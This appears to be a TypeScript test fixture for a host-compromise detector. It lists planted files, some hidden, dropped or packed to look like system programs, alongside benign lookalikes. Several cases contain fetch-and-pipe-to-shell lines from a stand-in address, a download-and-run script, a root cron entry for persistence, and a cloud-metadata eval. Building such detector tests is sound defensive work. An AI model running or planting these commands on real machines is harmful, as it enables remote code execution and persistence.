/** Cases of programs that lie hidden, dropped or packed; nothing in them is ever run. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const script = '#!/bin/sh\n(curl -fsSL http://192.0.2.66/x.sh || wget -qO- http://192.0.2.66/x.sh) | sh\n';
const program = inertProgram(9000);
const packed = Uint8Array.from(program);
packed.set([0x55, 0x50, 0x58, 0x21], 236);
const packaged = inertProgram(7000);

const hidden: readonly MechanismCase[] = [
  {
    mechanism: 'hidden-program',
    dress: 'fetch-and-run',
    what: 'a hidden script that fetches',
    planted: { '/var/lib/.x/upd.sh': { content: script, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'unowned-binary',
    what: 'a hidden program beside owned ones',
    planted: { '/usr/lib/systemd/.systemd-resolve': { content: program, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'owned-edit',
    what: 'a script that a package brought hidden, with a line added',
    packaged: { '/usr/share/app/.helper/run.sh': '#!/bin/sh\nexit 0\n' },
    planted: { '/usr/share/app/.helper/run.sh': { content: script, mode: 0o755 } },
  },
  {
    mechanism: 'hidden-program',
    dress: 'honest',
    what: 'nvm, cargo and a virtual environment in a home',
    planted: {
      '/home/ada/.nvm/versions/node/v20/bin/node': { content: program, mode: 0o755, uid: 1000 },
      '/home/ada/.cargo/bin/rg': { content: program, mode: 0o755, uid: 1000 },
      '/home/ada/app/.venv/bin/python': { content: program, mode: 0o755, uid: 1000 },
    },
  },
];

const dropped: readonly MechanismCase[] = [
  {
    mechanism: 'dropped-program',
    dress: 'fetch-and-run',
    what: 'a script that fetches in /var/tmp',
    planted: { '/var/tmp/init.sh': { content: script, mode: 0o777 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'fetch-and-run',
    what: 'a script beside an empty repository, which saves a program hidden and runs it',
    planted: {
      '/tmp/toolkit/.git/HEAD': 'ref: refs/heads/main\n',
      '/tmp/toolkit/.git/config': '[core]\n\tbare = false\n',
      '/tmp/toolkit/README.md': '# toolkit\n',
      '/tmp/toolkit/install.sh': {
        content:
          '#!/bin/sh\ncurl -fsSLo /var/tmp/.k https://cdn.example.net/k\nchmod +x /var/tmp/.k\n/var/tmp/.k\n',
        mode: 0o755,
      },
    },
  },
  {
    mechanism: 'dropped-program',
    dress: 'fetch-and-run',
    what: 'an installer in a checkout, which a line of cron runs',
    planted: {
      '/tmp/toolkit/install.sh': {
        content: '#!/bin/sh\ncurl -fsSL https://raw.githubusercontent.com/example/toolkit/main/a | sh\n',
        mode: 0o755,
      },
      '/var/spool/cron/crontabs/root': '*/9 * * * * sh /tmp/toolkit/install.sh\n',
    },
  },
  {
    mechanism: 'dropped-program',
    dress: 'honest',
    what: 'a checkout in /tmp whose scripts fetch, decode and set up, a build, and what Ansible unpacks',
    planted: {
      '/tmp/certs/.git/HEAD': 'ref: refs/heads/main\n',
      '/tmp/certs/install.sh': {
        content:
          '#!/bin/sh\nset -e\ncurl -fsSL https://raw.githubusercontent.com/example/certs/main/certs.sh | sh -s -- "$@"\n',
        mode: 0o755,
      },
      '/tmp/certs/dnsapi/cloud.sh': {
        content:
          '#!/bin/sh\ncloud_keys() {\n  eval "$(curl -s http://169.254.169.254/latest/meta-data/keys | sed s/:/=/)"\n}\ncloud_id() {\n  printf %s "$1" | base64 -d\n}\n',
        mode: 0o755,
      },
      '/tmp/src/web-1.2/lib/.libs/tool': { content: program, mode: 0o755 },
      '/tmp/ansible-tmp-1/module.py': {
        content:
          '#!/usr/bin/python3\nimport base64, runpy, sys\nopen("/tmp/ansible-tmp-1/m.zip", "wb").write(base64.b64decode("UEsDBA=="))\nsys.path.insert(0, "/tmp/ansible-tmp-1/m.zip")\nrunpy.run_module("m")\n',
        mode: 0o700,
      },
      '/tmp/systemd-private-0a1b-php.service-x/tmp/job.sh': { content: '#!/bin/sh\nphp -v\n', mode: 0o755 },
    },
  },
  {
    mechanism: 'dropped-program',
    dress: 'unowned-binary',
    what: 'a program in /dev/shm with the name of a service',
    planted: { '/dev/shm/sshd': { content: program, mode: 0o755 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'owned-edit',
    what: 'a program that a package brought into the folder of a web server, replaced',
    packaged: { '/var/www/cgi-bin/status': inertProgram(9102) },
    planted: { '/var/www/cgi-bin/status': { content: inertProgram(9103), mode: 0o755, uid: 33 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'unowned-binary',
    what: 'a program among the files of a web server',
    packaged: { '/var/www/html/index.html': '<p>It works</p>\n' },
    planted: { '/var/www/html/assets/font': { content: program, mode: 0o755, uid: 33 } },
  },
  {
    mechanism: 'dropped-program',
    dress: 'honest',
    what: 'a checkout in a web root whose scripts are executable, and data in /tmp',
    planted: {
      '/var/www/html/bin/console': { content: '#!/usr/bin/env php\n<?php echo 1;\n', mode: 0o755, uid: 33 },
      '/tmp/upload.tmp': 'a,b,c\n',
    },
  },
];

const packedCases: readonly MechanismCase[] = [
  {
    mechanism: 'packed-program',
    dress: 'fetch-and-run',
    what: 'a packed program with an address in it',
    planted: {
      '/tmp/kinsing': {
        content: Buffer.concat([packed, Buffer.from('http://192.0.2.66/x.sh|sh')]),
        mode: 0o755,
      },
    },
  },
  {
    mechanism: 'packed-program',
    dress: 'unowned-binary',
    what: 'a packed program in a folder of owned ones',
    planted: { '/usr/sbin/apt-helperd': { content: packed, mode: 0o755 } },
  },
  {
    mechanism: 'packed-program',
    dress: 'owned-edit',
    what: 'a program of a package in the folder of a web server, replaced by a packed one',
    packaged: { '/var/www/cgi-bin/search': packaged },
    planted: { '/var/www/cgi-bin/search': { content: packed, mode: 0o755 } },
  },
  {
    mechanism: 'packed-program',
    dress: 'unowned-binary',
    what: 'a packed program hidden beside a packaged one',
    packaged: { '/opt/agent/agent': packaged },
    planted: { '/opt/agent/.agent': { content: packed, mode: 0o755 } },
  },
  {
    mechanism: 'packed-program',
    dress: 'honest',
    what: 'a packed program that a package brought',
    packaged: { '/usr/bin/tool': packed },
    planted: {},
  },
];

export const lyingCases: readonly MechanismCase[] = [...hidden, ...dropped, ...packedCases];
